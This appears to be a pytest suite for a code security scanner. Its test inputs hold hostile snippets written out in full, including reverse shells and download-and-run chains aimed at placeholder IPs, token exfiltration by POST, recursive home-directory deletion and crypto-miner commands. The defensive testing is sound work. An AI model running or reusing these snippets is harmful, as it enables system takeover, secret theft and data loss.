"""Rating by capability: hidden intent, chains across commands, and the classes of harm that a
literal-matching scanner misses, in Python, IPython and Bash; plus everyday code that must stay
quiet. Every payload here is our own and is not in the benchmark corpus."""

from __future__ import annotations

import pytest

from codeflow_magic.models import Finding, severity_rank
from codeflow_magic.security import highest_severity, scan_code


def _at_least(findings: list[Finding], severity: str) -> list[Finding]:
    return [f for f in findings if severity_rank(f.severity) >= severity_rank(severity)]


def _check(code: str, language: str, severity: str, *words: str) -> list[Finding]:
    findings = scan_code(code, language)
    top = _at_least(findings, severity)
    assert top, f"{code!r} rated {highest_severity(findings)}, expected {severity}: {findings}"
    messages = " | ".join(f.message for f in top)
    for word in words:
        assert word in messages, f"{word!r} not in {messages!r}"
    return findings


# -- indirection is rated by the capability it reaches, whatever the literal ------------------


@pytest.mark.parametrize(
    ("code", "reached", "how"),
    [
        (
            'import importlib\nimportlib.import_module("os").system("true")',
            "os.system",
            "importlib.import_module('os')",
        ),
        ('m = __import__("subpro" + "cess")\nm.getoutput("date")', "subprocess.getoutput", "__im"),
        ('import sys\nsys.modules["os"].popen("pwd")', "os.popen", "sys.modules['os']"),
        (
            'import os\ngetattr(os, "".join(["po", "pen"]))("uptime")',
            "os.popen",
            "getattr(",
        ),
        ('import shutil as s\nvars(s)["rmtree"]("build")', "shutil.rmtree", "vars(s)"),
    ],
)
def test_indirection_reaching_a_capability_is_high(code: str, reached: str, how: str) -> None:
    findings = _check(code, "python", "high", reached, how, "hidden access")
    assert any(f.rule == "indirect-capability" for f in findings)


def test_harmful_command_behind_indirection_keeps_its_own_severity() -> None:
    code = 'import importlib\nimportlib.import_module("os").system("rm -rf ~")'
    findings = scan_code(code, "python")
    assert highest_severity(findings) == "critical"
    assert any("deletes the home directory" in f.message for f in findings)


def test_plain_call_with_the_same_literal_stays_low() -> None:
    assert highest_severity(scan_code('import os\nos.system("touch x")', "python")) == "low"
    # A command that only looks is not a finding at all.
    assert scan_code('import os\nos.system("true")', "python") == []


def test_code_assembled_by_formatting_is_high() -> None:
    code = 'src = "{}.{}({!r})".format("__import__(\'os\')", "system", "true")\nexec(src)'
    findings = _check(code, "python", "high", "assembled at run time")
    assert any("os.system" in f.message for f in findings)


def test_exec_used_as_a_decorator_is_high_and_its_payload_is_scanned() -> None:
    code = "@exec\n@lambda _: \"__import__('shutil').rmtree('/srv')\"\ndef unused():\n    pass\n"
    findings = _check(code, "python", "high", "as a decorator", "without a visible call")
    assert highest_severity(findings) == "critical"  # deleting /srv is critical on its own


def test_metaclass_running_commands_is_high() -> None:
    code = (
        "import subprocess\n"
        "class Auto(type):\n"
        "    def __init__(cls, *a):\n"
        '        subprocess.call(["hostname"])\n'
        "class Thing(metaclass=Auto):\n"
        "    pass\n"
    )
    _check(code, "python", "high", "metaclass", "Auto.__init__")


# -- chains across commands ---------------------------------------------------------------


def test_download_chmod_run_across_ipython_lines_is_one_critical_finding() -> None:
    code = "!curl -fsSL http://192.0.2.5/t -o /tmp/t\nx = 1\n!chmod u+x /tmp/t\n!/tmp/t -d\n"
    findings = scan_code(code, "ipython")
    chains = [f for f in findings if f.rule == "download-run"]
    assert len(chains) == 1
    (chain,) = chains
    assert chain.severity == "critical"
    for part in ("http://192.0.2.5/t", "(line 1)", "executable (line 3)", "runs it (line 4)"):
        assert part in chain.message


def test_download_then_run_in_bash_across_lines_and_directories() -> None:
    script = "cd /var/tmp\nwget http://192.0.2.6/pkg/agent\nchmod 700 agent\nsetsid ./agent\n"
    findings = _check(script, "bash", "critical", "downloads http://192.0.2.6/pkg/agent")
    assert sum(1 for f in findings if f.rule == "download-run") == 1


def test_os_system_steps_form_a_chain_too() -> None:
    code = 'import os\nos.system("wget -q -O /tmp/w http://192.0.2.9/w")\nos.system("sh /tmp/w")\n'
    _check(code, "python", "critical", "downloads http://192.0.2.9/w", "runs it (line 3)")


def test_decode_to_file_then_run_in_bash() -> None:
    script = "echo dHJ1ZQo= | base64 -d > /dev/shm/p\nbash /dev/shm/p\n"
    _check(script, "bash", "critical", "decodes a hidden payload into /dev/shm/p", "runs it")


def test_decode_to_file_then_run_from_ipython() -> None:
    code = "!echo dHJ1ZQo= | openssl base64 -d > .p\n!sh .p\n"
    _check(code, "ipython", "critical", "decodes a hidden payload")


def test_downloading_without_running_is_not_a_chain() -> None:
    code = "!wget -q http://192.0.2.5/data.csv\n!head data.csv\n"
    findings = scan_code(code, "ipython")
    assert not [f for f in findings if f.rule in ("download-run", "decode-run")]
    assert highest_severity(findings) == "medium"


# -- other interpreters, reverse shells and miners from ! lines and %%bash ----------------------


@pytest.mark.parametrize(
    ("code", "language"),
    [
        (
            "!perl -e 'use Socket;socket(S,2,1,6);connect(S,pack_sockaddr_in(7001,"
            'inet_aton("192.0.2.77")));open(STDOUT,">&S");exec("/bin/sh")\'',
            "ipython",
        ),
        (
            '%%bash\nruby -rsocket -e \'c=TCPSocket.new("192.0.2.78",7002);'
            "while(l=c.gets);c.print(`#{l}`);end'\n",
            "ipython",
        ),
        ("socat tcp:192.0.2.79:7003 exec:/bin/bash", "bash"),
        ("!ncat 192.0.2.80 7004 --sh-exec 'bash -i'", "ipython"),
    ],
)
def test_reverse_shells_from_other_interpreters_are_critical(code: str, language: str) -> None:
    findings = scan_code(code, language)
    assert highest_severity(findings) == "critical", findings
    assert any(
        f.severity == "critical" and ("reverse shell" in f.message or "remote shell" in f.message)
        for f in findings
    )


@pytest.mark.parametrize(
    ("code", "language"),
    [
        ("%%bash\n./xmr-stak-rx --noTest -o 192.0.2.81:3333\n", "ipython"),
        ("!/tmp/.k/kthreadd -o stratum+ssl://pool.example.org:443 -u w -p x", "ipython"),
        ('import subprocess\nsubprocess.Popen(["./cpuminer", "-a", "sha256d"])', "python"),
    ],
)
def test_miners_are_critical(code: str, language: str) -> None:
    _check(code, language, "critical", "cryptocurrency miner")


# -- pandas query/eval, pip.main -------------------------------------------------------------


def test_dataframe_query_reaching_os_is_rated_by_the_command() -> None:
    code = (
        "import pandas as pd\n"
        'frame = pd.DataFrame({"v": [1]})\n'
        "frame.query('@pd.io.common.os.system(\"rm -rf /home\")', engine='python')\n"
    )
    findings = _check(code, "python", "critical", "evaluates", "rm -rf /home")
    assert any(f.rule == "query-code" for f in findings)


def test_pandas_eval_reaching_builtins_is_high() -> None:
    code = 'import pandas as pd\npd.eval("@x.__builtins__", engine="python", local_dict={"x": 1})'
    _check(code, "python", "high", "pandas.eval evaluates", "__builtins__")


def test_pip_main_from_a_url_is_high() -> None:
    code = 'import pip\npip.main(["install", "https://192.0.2.3/extra-2.0.whl"])'
    _check(code, "python", "high", "installs a package from https://192.0.2.3/extra-2.0.whl")


# -- destructive loops, process memory, kernel keys ---------------------------------------------


def test_deleting_every_file_found_under_home_in_a_loop_is_critical() -> None:
    code = (
        "from pathlib import Path\n"
        "for item in Path.home().rglob('*.csv'):\n"
        "    if item.is_file():\n"
        "        item.unlink()\n"
    )
    findings = _check(code, "python", "critical", "'*.csv'", "under ~")
    assert any(f.rule == "delete-loop" and f.line == 4 for f in findings)


def test_deleting_in_a_loop_inside_the_work_dir_is_quiet() -> None:
    code = "from pathlib import Path\nfor f in Path('scratch').glob('*.tmp'):\n    f.unlink()\n"
    assert severity_rank(highest_severity(scan_code(code, "python"))) < severity_rank("medium")


@pytest.mark.parametrize(
    ("code", "language"),
    [
        ('target = 4242\ndata = open(f"/proc/{target}/mem", "rb").read(64)', "python"),
        ("xxd -l 64 /proc/2/mem", "bash"),
    ],
)
def test_reading_another_process_memory_is_critical(code: str, language: str) -> None:
    _check(code, language, "critical", "another process's memory")


def test_reading_own_process_memory_is_not_flagged_as_another_process() -> None:
    findings = scan_code('open("/proc/self/mem", "rb")', "python")
    assert not any("another process" in f.message for f in findings)


@pytest.mark.parametrize(
    ("code", "language"),
    [
        (
            "import json, pathlib\n"
            "for f in pathlib.Path('/root/.local/share/jupyter/runtime').glob('kernel-*.json'):\n"
            "    print(json.loads(f.read_text())['key'])\n",
            "python",
        ),
        ("cat /run/user/1000/jupyter/runtime/kernel-1.json", "bash"),
    ],
)
def test_reading_jupyter_connection_files_is_critical(code: str, language: str) -> None:
    _check(code, language, "high", "Jupyter kernel connection files")


# -- unpickling from the network, unsafe model loading, archives, LD_PRELOAD --------------------


def test_read_pickle_from_a_url_is_critical() -> None:
    code = 'import pandas\nframe = pandas.read_pickle("https://192.0.2.14/f.pkl.gz")'
    _check(code, "python", "critical", "fetched from https://192.0.2.14/f.pkl.gz")


def test_torch_load_with_weights_only_false_is_high() -> None:
    code = 'import torch\nckpt = torch.load("ckpt.pt", map_location="cpu", weights_only=False)'
    _check(code, "python", "high", "weights_only=False")


def test_torch_load_with_weights_only_true_is_quiet() -> None:
    code = 'import torch\nckpt = torch.load("ckpt.pt", weights_only=True)'
    assert highest_severity(scan_code(code, "python")) == "none"


@pytest.mark.parametrize(
    ("code", "language", "severity"),
    [
        ('import tarfile\ntarfile.open("u.tgz").extractall(path="/")', "python", "critical"),
        ('import shutil\nshutil.unpack_archive("u.zip", "/usr/local")', "python", "critical"),
        ("tar --extract -f u.tar --directory=/", "bash", "critical"),
        ("unzip -o u.zip -d ~", "bash", "high"),
    ],
)
def test_archive_extraction_over_system_or_home(code: str, language: str, severity: str) -> None:
    _check(code, language, severity, "unpacks an archive")


def test_archive_extraction_into_the_work_dir_is_quiet() -> None:
    code = 'import tarfile\ntarfile.open("d.tgz").extractall("data", filter="data")'
    assert highest_severity(scan_code(code, "python")) == "none"


@pytest.mark.parametrize(
    "code",
    [
        'import os\nos.environ["LD_PRELOAD"] = "./hook.so"',
        'import subprocess\nsubprocess.run(["id"], env={"LD_PRELOAD": "/dev/shm/h.so"})',
        'import os\nos.putenv("LD_PRELOAD", "h.so")',
    ],
)
def test_setting_ld_preload_is_high(code: str) -> None:
    _check(code, "python", "high", "LD_PRELOAD")


def test_reading_ld_preload_is_not_setting_it() -> None:
    findings = scan_code('import os\nprint(os.environ.get("LD_PRELOAD"))', "python")
    assert not any("LD_PRELOAD" in f.message for f in findings)


# -- busy loops and output floods -----------------------------------------------------------


@pytest.mark.parametrize(
    ("code", "words"),
    [
        ("while True:\n    print('tick')\n", "floods the notebook's output"),
        ("n = 0\nwhile 1:\n    n += 1\n", "grows memory"),  # += counts as growth already
        ("while True:\n    pass\n", "holds a CPU core"),
        ("import math\nwhile True:\n    math.sqrt(2.0)\n", "holds a CPU core"),
    ],
)
def test_endless_loops_with_no_way_out_are_high(code: str, words: str) -> None:
    _check(code, "python", "high", words)


def test_loop_that_sleeps_and_breaks_is_quiet() -> None:
    code = "import time\nwhile True:\n    time.sleep(1)\n    if done():\n        break\n"
    assert highest_severity(scan_code(code, "python")) == "none"


# -- false alarms to avoid --------------------------------------------------------------------


def test_pickle_round_trip_of_an_object_in_memory_is_quiet() -> None:
    code = "import pickle\nsnapshot = pickle.loads(pickle.dumps(estimator, protocol=5))"
    assert highest_severity(scan_code(code, "python")) == "none"


def test_find_deleting_bytecode_is_low_and_says_which_files() -> None:
    findings = scan_code("find src -name '*.pyo' -exec rm -f {} +", "bash")
    assert highest_severity(findings) == "low"
    assert any("*.pyo" in f.message for f in findings)
    assert not any("everything" in f.message for f in findings)


def test_find_deleting_everything_in_home_stays_critical() -> None:
    assert highest_severity(scan_code("find ~ -type f -delete", "bash")) == "critical"


def test_api_key_passed_to_a_client_is_low() -> None:
    code = (
        "import os\nfrom mistralai import Mistral\n"
        'cli = Mistral(api_key=os.environ["MISTRAL_API_KEY"])\n'
    )
    findings = scan_code(code, "python")
    assert highest_severity(findings) == "low"
    assert any("to authenticate" in f.message for f in findings)


def test_api_key_printed_or_sent_stays_high() -> None:
    assert highest_severity(scan_code('import os\nprint(os.environ["GROQ_API_KEY"])')) == "high"
    sent = 'import os, requests\nrequests.post("http://192.0.2.2", data=os.getenv("GROQ_API_KEY"))'
    assert highest_severity(scan_code(sent)) == "critical"


def test_post_of_literal_data_to_an_echo_service_is_low() -> None:
    code = 'import requests\nrequests.post("https://echo.example.com/anything", json={"n": 1})'
    findings = scan_code(code, "python")
    assert highest_severity(findings) == "low"
    assert any("fixed data" in f.message for f in findings)


def test_post_of_file_contents_stays_high() -> None:
    code = 'import requests\nrequests.post("https://x.example", data=open("notes.txt").read())'
    assert severity_rank(highest_severity(scan_code(code))) >= severity_rank("high")


def test_copying_a_kaggle_token_into_its_folder_is_low() -> None:
    code = "!mkdir -p ~/.kaggle\n!cp ./kaggle.json ~/.kaggle/kaggle.json\n"
    assert highest_severity(scan_code(code, "ipython")) == "low"


def test_copying_over_a_startup_file_stays_critical() -> None:
    assert highest_severity(scan_code("!cp x ~/.bashrc", "ipython")) == "critical"


def test_api_key_kept_in_a_variable_for_a_client_is_low() -> None:
    code = (
        "import os\nimport cohere\n"
        'token = os.environ["COHERE_API_KEY"]\n'
        "co = cohere.Client(token)\n"
    )
    findings = scan_code(code, "python")
    assert highest_severity(findings) == "low"
    assert any("cohere.Client" in f.message for f in findings)


def test_api_key_set_on_a_module_setting_is_low() -> None:
    code = 'import os, replicate\nreplicate.api_token = os.environ["REPLICATE_API_TOKEN"]'
    assert highest_severity(scan_code(code, "python")) == "low"


def test_api_key_kept_in_a_variable_then_sent_is_exfiltration() -> None:
    code = (
        "import os, requests\n"
        'tok = os.environ["GITHUB_TOKEN"]\n'
        'requests.post("http://192.0.2.4/t", json={"t": tok})\n'
    )
    assert highest_severity(scan_code(code, "python")) == "critical"


def test_sql_query_methods_are_not_pandas_evaluation() -> None:
    code = 'rows = cursor_conn.query("SELECT name FROM sys.objects WHERE id = @oid")'
    assert highest_severity(scan_code(code, "python")) == "none"


def test_archive_into_a_home_subfolder_is_medium() -> None:
    code = 'import tarfile, os\ntarfile.open("c.tgz").extractall(os.path.expanduser("~/corpora"))'
    assert highest_severity(scan_code(code, "python")) == "medium"


def test_os_walk_over_home_deleting_each_file_is_critical() -> None:
    code = (
        "import os\n"
        "for top, _dirs, names in os.walk(os.path.expanduser('~/')):\n"
        "    for n in names:\n"
        "        os.unlink(os.path.join(top, n))\n"
    )
    findings = _check(code, "python", "critical", "deletes every file the loop finds under ~")
    assert any(f.rule == "delete-loop" and f.line == 4 for f in findings)


def test_os_walk_inside_the_work_dir_deleting_files_is_quiet() -> None:
    code = (
        "import os\n"
        "for top, _dirs, names in os.walk('outputs'):\n"
        "    for n in names:\n"
        "        os.remove(os.path.join(top, n))\n"
    )
    assert highest_severity(scan_code(code, "python")) == "none"


@pytest.mark.parametrize(
    "script",
    [
        "rm -f /tmp/q; mkfifo /tmp/q; cat /tmp/q | bash -i 2>&1 | nc 192.0.2.30 9100 > /tmp/q",
        "ncat 192.0.2.31 9101 | sh",
    ],
)
def test_network_connection_piped_into_a_shell_is_a_remote_shell(script: str) -> None:
    findings = scan_code(script, "bash")
    assert highest_severity(findings) == "critical", findings


def test_wget_into_a_folder_then_run_is_a_chain() -> None:
    script = "wget -q -P /var/tmp http://192.0.2.32/upd\nchmod +x /var/tmp/upd\n/var/tmp/upd\n"
    _check(script, "bash", "critical", "downloads http://192.0.2.32/upd to /var/tmp/upd")


def test_download_through_tee_then_run_is_a_chain() -> None:
    script = "curl -fsS http://192.0.2.33/s | tee ./s.sh > /dev/null\nbash ./s.sh\n"
    _check(script, "bash", "critical", "downloads http://192.0.2.33/s")


def test_download_by_os_system_then_run_by_subprocess_is_a_chain() -> None:
    code = (
        "import os, subprocess\n"
        'os.system("wget -qO /tmp/bin1 http://192.0.2.34/b")\n'
        'os.chmod("/tmp/bin1", 0o755)\n'
        'subprocess.Popen(["/tmp/bin1"])\n'
    )
    _check(code, "python", "critical", "downloads http://192.0.2.34/b", "runs it (line 4)")


@pytest.mark.parametrize(
    "script",
    [
        "./kworker --algo=rx/0 --url=192.0.2.35:3333",
        "/dev/shm/.x -a cryptonight -o 192.0.2.36:5555",
    ],
)
def test_miners_known_by_their_arguments_are_critical(script: str) -> None:
    _check(script, "bash", "critical", "cryptocurrency miner")


def test_an_ordinary_algorithm_flag_is_not_a_miner() -> None:
    assert highest_severity(scan_code("python train.py -a resnet --algo adam", "bash")) == "none"


def test_locating_the_jupyter_runtime_dir_is_high() -> None:
    code = (
        "from jupyter_client import find_connection_file\n"
        "cf = find_connection_file('kernel-*.json')\n"
    )
    _check(code, "python", "high", "Jupyter kernel connection files")


@pytest.mark.parametrize(
    ("code", "language", "words"),
    [
        ("%%bash\nwhile true; do printf 'x'; done\n", "ipython", "floods the output"),
        ("until false; do :; done", "bash", "no pause"),
        ("!cat /dev/zero", "ipython", "prints without end"),
        ("yes y", "bash", "prints without end"),
    ],
)
def test_shell_floods_and_busy_loops_are_high(code: str, language: str, words: str) -> None:
    _check(code, language, "high", words)


@pytest.mark.parametrize(
    "script",
    [
        "while true; do sleep 30; nvidia-smi; done",
        "yes | head -n 3",
        "head -c 32 /dev/urandom | base64",
        'while read -r f; do echo "$f"; done < files.txt',
    ],
)
def test_bounded_or_paced_shell_loops_are_quiet(script: str) -> None:
    assert severity_rank(highest_severity(scan_code(script, "bash"))) < severity_rank("medium")
